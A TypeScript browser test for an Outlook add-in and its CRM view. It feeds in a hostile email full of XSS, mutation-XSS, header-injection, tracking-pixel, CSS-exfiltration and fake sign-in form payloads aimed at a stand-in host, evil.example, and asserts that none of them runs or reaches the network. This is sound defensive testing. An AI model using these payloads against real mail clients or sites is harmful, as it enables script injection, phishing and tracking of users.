import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Page, Request } from 'playwright-core';
import { describeInBrowser } from './describe.ts';
import { emailsAbout, openOutlook, type Outlook } from './outlook.ts';

const evil = 'http://evil.example';

/** Everything that a mail was ever seen to try; each attempt would either call `pwned` or ask evil.example for something. */
const attempts = `<!doctype html><html><head>
<base href="${evil}/base/">
<meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="stylesheet" href="${evil}/style.css"><link rel="preload" as="image" href="${evil}/preload.png">
<link rel="icon" href="${evil}/icon.png"><title onclick="pwned('title')">Your account</title>
<style>
@import url("${evil}/import.css");
@font-face { font-family: Tracker; src: url(${evil}/font.woff2); }
body { font-family: Tracker; background: url('${evil}/background.png'); position: fixed; inset: 0; }
p { list-style-image: u\\72l(${evil}/escaped.png); background-image: image-set("${evil}/set.png" 1x); content: url(//evil.example/content.png); }
</style>
<script>pwned('script in head')</script><script src="${evil}/script.js"></script>
</head>
<body onload="pwned('onload')" background="${evil}/body.png">
<script>pwned('script'); top.pwned('from below'); new Image().src = '${evil}/script-ran.png';</script>
<p>Free coffee for everybody</p>
<img src="${evil}/pixel.gif" width="1" height="1"><img src="//evil.example/pixel.gif"><img srcset="${evil}/set.gif 1x">
<img src="nothing" onerror="pwned('onerror')"><img/src='nothing'/onerror=pwned('odd')>
<img src="\\\\evil.example\\slashes.png"><img src="/\\evil.example/slash.png"><img src="https:evil.example/half.png">
<picture><source srcset="${evil}/picture.webp"><img alt=""></picture>
<input type="image" src="${evil}/input.png"><input autofocus onfocus="pwned('autofocus')">
<video poster="${evil}/poster.png" src="${evil}/film.mp4" autoplay></video><audio src="${evil}/sound.mp3" autoplay></audio>
<object data="${evil}/object"></object><embed src="${evil}/embed"><iframe src="${evil}/frame"></iframe>
<iframe srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe><frameset onload="pwned('frameset')"></frameset>
<svg onload="pwned('svg')"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#x"/><script>pwned('svg script')</script>
<a xlink:href="javascript:pwned('svg link')"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned('mutation')&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=pwned('noscript')>"></p></noscript>
<div style="background:url(${evil}/inline.png);behavior:url(${evil}/x.htc)">Styled</div>
<div style="background:u\\72l(${evil}/inline-escaped.png)">Styled</div>
<div style="background-image:image-set('${evil}/inline-set.png' 1x);list-style:/**/url(/**/${evil}/comment.png)">Styled</div>
<table background="${evil}/table.png"><tr><td background="${evil}/cell.png">Cell</td></tr></table>
<a href="javascript:pwned('link')">A prize for you</a> <a href="java&#10;script:pwned('folded link')">Another prize</a>
<a href="data:text/html,<script>opener.pwned('data link')</script>">A third prize</a>
<form action="${evil}/form" method="post"><input name="password" value="secret"><button>Sign in again</button></form>
<dialog open>Signed out</dialog>
<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your account is locked</div>
<style>body::after { content: ''; position: fixed; inset: -1000px; z-index: 2147483647; background: red; }</style>
</body></html>`;

const subject = `<img src=x onerror="pwned('subject')"> Free coffee`;
const mail = [
  `From: "<img src=${evil}/name.png onerror=pwned('name')>" <mallory@evil.example>`,
  `To: Dana Whitfield <dana@contoso.example>, "<b onclick=pwned('to')>Bob</b>" <bob@evil.example>`,
  `Subject: ${subject}`,
  'Date: Fri, 20 Nov 2026 08:00:00 +0100',
  'Message-ID: <"><script>pwned(1)</script>@evil.example>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="frontier"',
  '',
  '--frontier',
  'Content-Type: text/html; charset=utf-8',
  '',
  attempts,
  '--frontier',
  `Content-Type: text/html; name="<img src=x onerror=pwned('file')>.html"`,
  `Content-Disposition: attachment; filename="<img src=x onerror=pwned('file')>.html"`,
  '',
  "<script>pwned('attachment')</script>",
  '--frontier--',
  '',
].join('\r\n');

describeInBrowser('a mail that means harm', () => {
  let folder: string;
  let outlook: Outlook;
  /** evil.example, which answers whatever reaches it. */
  let evilServer: Server;
  const reached: string[] = [];
  const ran: string[] = [];
  const asked: Request[] = [];
  beforeAll(async () => {
    evilServer = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => evilServer.listen(0, '127.0.0.1', resolve));
    const { port } = evilServer.address() as AddressInfo;
    folder = mkdtempSync(join(tmpdir(), 'alongside-mail-'));
    writeFileSync(join(folder, 'hostile.eml'), mail);
    outlook = await openOutlook({
      mail: folder,
      arguments: [`--host-resolver-rules=MAP evil.example 127.0.0.1:${port}`],
    });
    outlook.context.on('request', (request) => asked.push(request));
    // There in every frame, so that whatever script runs anywhere can call it.
    await outlook.context.exposeBinding('pwned', (_source, how: string) => void ran.push(how));
    await outlook.page.reload();
  });
  afterAll(async () => {
    await outlook.close();
    evilServer.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const messageIn = (page: Page, title: string) => page.frameLocator(`iframe[title="${title}"]`);

  /** Nothing ran, nothing was asked of anybody else, and nothing lies over the page. */
  async function nothingHappened(page: Page): Promise<void> {
    // What was to be fetched or run is so by now: two frames are painted, and the network is quiet.
    await page.waitForLoadState('load');
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
    const own = [outlook.stack.addinUrl, outlook.stack.hostUrl].map((url) => new URL(url).port);
    const elsewhere = asked.filter((request) => {
      const { protocol, hostname, port } = new URL(request.url());
      const blocked = request.failure()?.errorText === 'csp'; // told of, never sent
      return protocol.startsWith('http') && !(hostname === 'localhost' && own.includes(port)) && !blocked;
    });
    const told = elsewhere.map((request) => `${request.url()} ${request.failure()?.errorText ?? ''}`);
    expect({ reached, told, ran }).toEqual({ reached: [], told: [], ran: [] });
    expect(page.url()).toMatch(/^http:\/\/localhost:/);
    expect(outlook.context.pages().length).toBeLessThanOrEqual(2);
  }

  test('is shown, harmless, in the reading pane, in the form of a reply, beside it and as the CRM’s record', async () => {
    const { page } = outlook;
    await page.getByRole('option', { name: /Free coffee/ }).click();
    const body = messageIn(page, 'Message body');
    await body.getByText('Free coffee for everybody').waitFor();
    for (const prize of ['A prize for you', 'Another prize']) {
      await body.getByText(prize).dispatchEvent('click');
    }
    expect(await body.locator('form, input, button, iframe, script, svg, object, meta, base, link').count()).toBe(
      await body.locator('meta[http-equiv="Content-Security-Policy"], meta[charset], meta[name="referrer"]').count(),
    );
    await nothingHappened(page);

    await outlook.openPane(); // a real click: were the mail over the page, it would not arrive
    await outlook.person.getByRole('heading', { name: /onerror/ }).waitFor(); // its name, as text
    await outlook.button('Add contact').click(); // reads the body for a telephone number
    await outlook.pane.getByRole('form', { name: 'New contact' }).waitFor();
    await outlook.button('Cancel').click();
    await outlook.button('Track').click();
    await outlook.says('Tracked');
    await nothingHappened(page);
    const [email, ...more] = await emailsAbout(outlook.stack, subject);
    expect(more).toEqual([]);

    const record = await outlook.context.newPage();
    await record.goto(`${outlook.stack.addinUrl}/crm/email/${email!.activityid}`);
    await record.getByRole('heading', { name: subject }).waitFor();
    await messageIn(record, 'Message').getByText('Free coffee for everybody').waitFor();
    await record.getByText('.html').first().waitFor(); // the file's name, as text
    await nothingHappened(record);
    await record.close();

    await page.getByRole('toolbar', { name: 'Ribbon' }).getByRole('button', { name: 'Reply', exact: true }).click();
    const reply = page.getByRole('region', { name: 'New message' });
    await reply.getByText('Free coffee for everybody').waitFor();
    await nothingHappened(page);
    await page
      .getByRole('toolbar', { name: 'Ribbon' })
      .getByRole('button', { name: 'Alongside' })
      .click({ trial: true });
    await reply.getByRole('button', { name: 'Discard' }).click();
  });

  test('would have been caught: the trap works', async () => {
    const trap = await outlook.context.newPage();
    await trap.goto(`${outlook.stack.addinUrl}/config.json`);
    await trap.evaluate(`pwned('by me'); fetch('${evil}/by-me', { mode: 'no-cors' })`);
    expect(ran.splice(0)).toEqual(['by me']);
    expect(reached.splice(0)).toEqual(['/by-me']);
    const mine = asked.find((request) => request.url() === `${evil}/by-me`);
    expect(mine).toBeDefined();
    expect(mine?.failure()).toBeNull();
    asked.splice(asked.indexOf(mine!), 1);
    await trap.close();
  });
});
